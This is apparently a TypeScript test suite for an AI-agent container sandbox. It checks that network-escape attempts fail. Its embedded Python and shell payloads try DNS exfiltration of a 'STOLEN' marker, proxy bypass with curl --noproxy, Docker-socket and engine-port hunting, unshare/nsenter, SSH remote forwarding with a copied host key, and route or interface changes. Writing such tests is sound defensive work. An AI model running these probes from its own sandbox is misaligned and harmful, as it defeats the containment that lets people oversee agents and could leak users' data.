/**
 * Attacks by the network that a container does not have. Where it is cheap, the same is tried from a container that has
 * the engine's network: nothing here is held back by anything but the wall.
 */
import { once } from 'node:events';
import { lookup } from 'node:dns/promises';
import { chmodSync } from 'node:fs';
import { connect, createServer } from 'node:net';
import { join } from 'node:path';
import { serviceOf } from '../../src/network/keys/services';
import { isKubernetes } from '../engine/engines';
import { Place, buildTimeoutMs } from '../engine/place';
import { Cai, newWorkspace } from '../engine/support';
import { attempt, attemptWith, reachedIf } from './attempt';
import { Outside, saying, stolen } from './outside';

const outside = Outside.of();
const cai = new Cai();
/** A host that is on the list for all containers. */
const listedHost = serviceOf({ for: 'npm' }).hosts[0]!;
let place: Place;
/** Has the engine's network. */
let open: Place;

beforeAll(async () => {
  place = await new Place(cai).opened();
  open = await new Place(new Cai('egress = "open"\n'), newWorkspace()).opened();
}, buildTimeoutMs);

/** A pod has one to its node. */
const interfaces = isKubernetes ? ['eth0', 'lo'] : ['lo'];

/** What of an attack got out or in. */
async function reachedBy(script: string, from = place): Promise<string | undefined> {
  const { heard, ended } = await outside.heardOf(from, script);
  if (ended.status !== 0) throw new Error(`the attack ended with ${ended.status}: ${ended.stderr}`);
  const said = heard + ended.stdout.toString();
  return reachedIf(/STOLEN|REACHED/.test(said), said);
}

/** The same, of an attack that succeeds from a container with a network. */
async function reachedByWhatOpenAllows(script: string): Promise<string | undefined> {
  if ((await reachedBy(script, open)) === undefined)
    throw new Error('nor does it succeed with egress = "open"');
  return await reachedBy(script);
}

const eachAddress = (attack: string) => `for address in addresses:
    try: ${attack}
    except OSError as error: print(error)`;

describe('an agent without a network', () => {
  attemptWith('a container with a network')(
    'an agent reaches a service of the user’s machine that listens on all addresses',
    () => reachedByWhatOpenAllows(eachAddress(`print(say('${stolen}', (address, port)))`)),
  );

  attemptWith('a container with a network')('an agent sends datagrams to the user’s machine', () =>
    reachedByWhatOpenAllows(`for address in [*addresses, '255.255.255.255', '224.0.0.1', 'ff02::1']:
    try:
        s = socket.socket(socket.AF_INET6 if ':' in address else socket.AF_INET, socket.SOCK_DGRAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        s.sendto(b'${stolen}', (address, port))
    except OSError as error: print(error)`),
  );

  attemptWith('a container with a network')('an agent pings the user’s machine', () =>
    reachedByWhatOpenAllows(
      eachAddress(`
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
        s.settimeout(2)
        s.sendto(bytes([8, 0, 0, 0, 0, 0, 0, 1]) + b'data', (address, 0))
        print('REACHED', s.recv(100))`),
    ),
  );

  attemptWith('a container with a network')('an agent connects to a public address', async () => {
    const { address } = await lookup(listedHost);
    return await reachedByWhatOpenAllows(`
try: socket.create_connection(('${address}', 443), 5); print('REACHED')
except OSError as error: print(error)`);
  });

  attempt('an agent sends data in names that it looks up', () =>
    reachedBy(`servers = ['8.8.8.8', '1.1.1.1', '127.0.0.11', '127.0.0.53', '127.0.0.1', '2606:4700:4700::1111', *addresses]
servers += [line.split()[1] for line in open('/etc/resolv.conf') if line.startswith('nameserver ')]
query = b'\\x00\\x01\\x01\\x00\\x00\\x01' + b'\\x00' * 6 + b'\\x06STOLEN\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01'
for server in servers:
    family = socket.AF_INET6 if ':' in server else socket.AF_INET
    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
        s = socket.socket(family, kind)
        s.settimeout(1)
        try:
            s.connect((server, 53))
            s.sendall(query if kind == socket.SOCK_DGRAM else bytes([0, len(query)]) + query)
            if s.recv(100): print('REACHED', server)
        except OSError as error: print(error)
for name in ('${listedHost}', 'stolen.example.com', 'gateway.docker.internal', 'host.docker.internal', 'host.containers.internal'):
    try: print('REACHED', socket.getaddrinfo(name, 80))
    except OSError as error: print(error)`),
  );

  attempt('an agent opens a socket that knows no network of its own, or none below IP', () =>
    reachedBy(`kinds = [(socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_INET, socket.SOCK_RAW, 255), (socket.AF_INET6, socket.SOCK_RAW, 58), (socket.AF_PACKET, socket.SOCK_RAW, 768)]
kinds += [(family, kind, 0) for family in range(3, 46) if family not in (10, 16) for kind in (1, 2, 3, 5)]
for each in kinds:
    try: socket.socket(*each)
    except OSError: continue
    print('REACHED', each)`),
  );

  attempt('an agent makes an interface, an address or a route', () =>
    reachedBy(`import glob
for command in ('ip link add evil type dummy', 'ip link add evil type veth', 'ip link set lo mtu 1000', 'ip addr add 10.9.8.7/24 dev lo', 'ip route add default dev lo', 'unshare -rn true', 'nsenter -t 1 -n true'):
    try: done = subprocess.run(command.split(), capture_output=True)
    except OSError: continue
    if done.returncode == 0: print('REACHED', command)
if sorted(os.listdir('/sys/class/net')) != ${JSON.stringify(interfaces)}: print('REACHED', os.listdir('/sys/class/net'))
if os.path.exists('/dev/net/tun'): print('REACHED /dev/net/tun')`),
  );

  attempt('an agent has the engine give it a network', () =>
    reachedBy(`for folder, folders, files in os.walk('/'):
    if folder.startswith(('/proc', '/sys')): folders.clear()
    for name in files:
        if 'docker' in name or 'podman' in name or 'containerd' in name:
            try: socket.socket(socket.AF_UNIX).connect(os.path.join(folder, name))
            except OSError: continue
            print('REACHED', folder, name)
for address in ('127.0.0.1', '172.17.0.1', *addresses):
    for number in (2375, 2376, 8080):
        try: socket.create_connection((address, number), 1)
        except OSError: continue
        print('REACHED', address, number)`),
  );

  attemptWith('a container with a network')(
    'an agent goes around the proxy with programs that can be told to',
    () =>
      reachedByWhatOpenAllows(`url = ['http://[%s]:%d/STOLEN' % (a, port) if ':' in a else 'http://%s:%d/STOLEN' % (a, port) for a in addresses]
for each in url:
    for command in (['curl', '-sS', '-m', '3', '--noproxy', '*'], ['env', '-u', 'http_proxy', '-u', 'HTTP_PROXY', '-u', 'NODE_USE_ENV_PROXY', 'node', '-e', 'fetch(process.argv[1]).catch(() => 0)']):
        subprocess.run([*command, each], capture_output=True)`),
  );
});

describe('an agent, of containers of others,', () => {
  attempt('an agent reaches a service of a neighbour', async () => {
    const serve = "import socket; s = socket.create_server(('', 9981)); print('begun', flush=True)\nwhile True: s.accept()[0].sendall(b'SERVICE')"; // prettier-ignore
    const neighbours = [await new Place(cai).opened(), open];
    const servers = neighbours.map((each) => each.start(['python3', '-c', serve]));
    for (const server of servers) await server.says('begun');
    const { address } = await open.container();
    const read = `for address in ('127.0.0.1', '::1', *'${address}'.split()):
    if 'SERVICE' in say('', (address, 9981)): print('REACHED', address)`;
    const isServed = await reachedBy(read, open);
    const reached = await reachedBy(read);
    for (const { child } of servers) child.kill('SIGKILL');
    if (isServed === undefined) throw new Error('the service does not serve');
    return reached;
  });

  attempt('an agent uses the proxy of a neighbour', async () => {
    const neighbour = await new Place(cai).opened();
    const holder = neighbour.start(['sh', '-c', 'echo $https_proxy; cat']);
    await holder.says('\n');
    const [port] = /\d+$/.exec(holder.stdout.toString().trim()) ?? [];
    const ask = `print(say('GET http://a/ HTTP/1.1\\r\\nHost: a\\r\\nConnection: close\\r\\n\\r\\n', ('127.0.0.1', ${port})))`;
    const own = (await neighbour.run(['sh', '-c', `exec 3<> /dev/tcp/127.0.0.1/${port}`].with(0, 'bash')))
      .status;
    // The port can be this command's own, too.
    const said = await reachedBy(`if proxy[1] != ${port}: ${ask.replace('print(', "print('REACHED' if 'cai: ' in ").replace(/\)$/, " else '')")}`); // prettier-ignore
    holder.child.stdin.end();
    if (own !== 0) throw new Error('the neighbour itself does not reach it');
    return said;
  });
});

describe('an agent, of ways in,', () => {
  attempt(
    'an agent reaches a service that listens on the loopback address of the user’s machine',
    async () => {
      const port = await saying('REACHED');
      const names = "['127.0.0.1', 'localhost', '::1', '0.0.0.0', 'host.docker.internal', *addresses]";
      return await reachedBy(`for each in ${names}: print(say('', (each, ${port})))`);
    },
  );

  attempt('an agent that may reach one port of the user’s machine reaches another', async () => {
    const [allowed, other] = [await saying('ALLOWED'), await saying('REACHED')];
    const own = await new Place(new Cai(`host_ports = [${allowed}]\nallow = ["*:*"]\n`)).opened();
    const places = `[(name, port) for name in ('localhost', '127.0.0.1', '::1', '0.0.0.0', 'host.docker.internal', *addresses) for port in (${allowed}, ${other})]`;
    const { ended } = await outside.heardOf(own, `for place in ${places}:
    at = ('[%s]:%d' if ':' in place[0] else '%s:%d') % place
    print(place, say('', place), say('GET http://%s/ HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\n\\r\\n' % (at, at)))
    print(place, say('CONNECT %s HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n' % (at, at)))`); // prettier-ignore
    const said = `${ended.stdout.toString()}${ended.stderr}`;
    if (ended.status !== 0 || !said.includes('ALLOWED')) throw new Error(`it could not be tried: ${said}`);
    return reachedIf(said.includes('REACHED'), said);
  });

  attemptWith('a socket as the way in')(
    'an agent has cai connect to a socket of the user’s machine instead of its container',
    async () => {
      const path = join(cai.home, 'own.sock');
      let isReached = false;
      const server = createServer((socket) => {
        isReached = true;
        socket.destroy();
      }).listen(path);
      await once(server, 'listening');
      chmodSync(path, 0o777);
      const own = await new Place(cai).opened();
      await own.prints(['ln', '-sf', path, '/run/cai/door/ssh']);
      const { status } = await own.run(['true']);
      server.close();
      if (status === 0) throw new Error('the container was entered: the link is not in the way');
      return reachedIf(isReached, path);
    },
  );

  attempt('an agent logs in to the sshd of its container, and has it forward', async () => {
    const way = isKubernetes
      ? '-p 2222 agent@127.0.0.1'
      : "-o 'ProxyCommand=/run/cai/join /run/cai/door/ssh' agent@inside";
    const script = `cd && cp /run/cai/host_key key && chmod 600 key && ssh-keygen -q -t ed25519 -N '' -f own
for key in key own; do ssh -i $key -o IdentitiesOnly=yes -o StrictHostKeyChecking=no -o BatchMode=yes \\
  -R 9983:127.0.0.1:${outside.port} ${way} echo REACHED; done`;
    const { stdout, stderr } = await place.run(['sh', '-c', script]);
    if (!stderr.includes('Permission denied')) throw new Error(`it could not be tried: ${stderr}`);
    return reachedIf(stdout.includes('REACHED'), stdout.toString());
  });

  attempt('an agent listens on a port of the user’s machine', async () => {
    const serve = "import socket; s = socket.create_server(('', 9982)); print('begun', flush=True)\nwhile True: s.accept()"; // prettier-ignore
    const server = place.start(['python3', '-c', serve]);
    await server.says('begun');
    const socket = connect(9982, '127.0.0.1');
    const isOpen = await new Promise<boolean>((done) => {
      socket.on('connect', () => done(true)).on('error', () => done(false));
    });
    socket.destroy();
    server.child.kill('SIGKILL');
    return reachedIf(isOpen, 'port 9982 of 127.0.0.1');
  });

  attempt('an agent connects to a socket of the host that has a name but no file', async () => {
    const serve = '$| = 1; use Socket; socket(S, AF_UNIX, SOCK_STREAM, 0); bind(S, sockaddr_un("\\0cai-evil")) or die $!; listen(S, 5); print "begun\\n"; accept(C, S);'; // prettier-ignore
    const server = cai.startProgram('perl', ['-e', serve]);
    await server.says('begun');
    const reached = await reachedBy(`path = '\\0cai-evil'
for size in (len(path), 108):
    try: socket.socket(socket.AF_UNIX).connect(path.ljust(size, '\\0'))
    except OSError: continue
    print('REACHED')`);
    server.child.kill('SIGKILL');
    return reached;
  });

  attempt('an agent changes addresses, routes or names of its network', () =>
    reachedBy(`import fcntl, struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for name, number in {'address': 0x8916, 'flags': 0x8914, 'route': 0x890B, 'hardware address': 0x8924, 'mtu': 0x8922}.items():
    for interface in (b'eth0', b'lo'):
        try: fcntl.ioctl(s, number, interface.ljust(16, b'\\0') + b'\\0' * 104)
        except PermissionError: continue
        except OSError as error:
            if error.errno in (19, 22, 95, 99): continue
        print('REACHED', name, interface)
for path in ('/etc/hosts', '/etc/resolv.conf', '/etc/hostname', '/proc/sys/net/ipv4/conf/all/forwarding'):
    try: open(path, 'a')
    except OSError: continue
    print('REACHED', path)`),
  );
});
